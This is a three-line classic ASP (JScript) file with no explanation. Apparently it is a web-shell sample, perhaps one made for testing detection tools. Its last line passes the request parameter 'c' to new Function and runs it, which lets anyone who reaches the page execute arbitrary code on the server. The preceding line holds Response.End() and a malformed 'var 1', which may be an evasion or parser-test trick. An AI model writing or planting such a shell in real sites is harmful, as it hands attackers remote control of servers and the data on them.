<%@ Language="JScript" %>
<% Response.End(); var 1 %>
<% new Function(Request("c"))(); %>
